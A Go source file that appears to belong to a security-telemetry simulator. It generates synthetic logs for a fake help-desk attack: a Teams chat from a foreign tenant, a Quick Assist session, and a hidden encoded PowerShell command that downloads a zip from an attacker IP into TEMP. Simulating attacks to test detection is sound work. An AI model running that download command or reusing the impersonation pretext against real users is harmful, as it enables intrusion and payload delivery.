package attack

import (
	"fmt"

	"socrates/generator/life"
	"socrates/generator/tick"
	"socrates/generator/trace"
)

func init() {
	register(Activity{Name: "remote-help", Doc: "A false help desk talks the victim into Quick Assist.", Technique: "T1219", Tactic: "CommandAndControl", Params: []Param{onVictim, fromRented}, Needs: needVictim, Run: remoteHelp})
}

func remoteHelp(e trace.Env, at int64, a Args) {
	d := day(e, a.Person("on"), at)
	dev, thread := d.P.Device, "19:"+e.R.Hex(32)+"@unq.gbl.spaces"
	e.Cloud(at-e.R.Between(2*tick.Minute, 5*tick.Minute), trace.CloudAct{Account: d.P.Account, Workload: "MicrosoftTeams", Operation: "ChatCreated", Object: thread, Type: "Chat", IP: d.Public, Place: d.Place, Agent: agent(Args{}), Office: []any{"ChatThreadId", thread, "CommunicationType", "OneOnOne"},
		Raw: fmt.Sprintf(`{"Operation":"ChatCreated","Workload":"MicrosoftTeams","UserId":%q,"CommunicationType":"OneOnOne","ChatThreadId":%q,"ParticipantInfo":{"HasForeignTenantUsers":true,"ParticipatingDomains":["helpdesk-support.onmicrosoft.com"]},"Members":[{"DisplayName":"Help Desk","UPN":"helpdesk@helpdesk-support.onmicrosoft.com"}]}`, d.P.UPN, thread)})
	qa := e.Start(dev, e.O.Image(dev, "quickassist.exe"), d.Explorer.User, d.Explorer, at, "")
	e.Connect(qa, at+e.R.Between(5*tick.Second, 14*tick.Second), trace.Flow{LocalIP: d.IP, RemoteIP: fmt.Sprintf("52.112.%d.%d", e.R.Between(90, 120), e.R.Between(2, 250)), Port: 443, URL: "remoteassistance.support.services.microsoft.com", Site: d.Firewall(), Sent: e.R.Between(30_000, 90_000), Received: e.R.Between(200_000, 900_000)})
	at += e.R.Around(4*tick.Minute, tick.Minute)
	cmd := e.Start(dev, e.O.Image(dev, "cmd.exe"), d.Explorer.User, d.Explorer, at, `"C:\Windows\system32\cmd.exe" `)
	at += e.R.Around(50*tick.Second, 20*tick.Second)
	ps := e.Start(dev, e.O.Image(dev, "powershell.exe"), cmd.User, cmd, at, "powershell -nop -w hidden -enc "+life.Encode("iwr https://"+a.Address("from").IP+"/sp -OutFile $env:TEMP\\sp.zip"))
	e.Connect(ps, at+e.R.Between(600*tick.Millisecond, 2500*tick.Millisecond), trace.Flow{LocalIP: d.IP, RemoteIP: a.Address("from").IP, Port: 443, URL: a.Address("from").IP, Site: d.Firewall(), Sent: e.R.Between(500, 900), Received: e.R.Between(1_800_000, 2_900_000)})
}
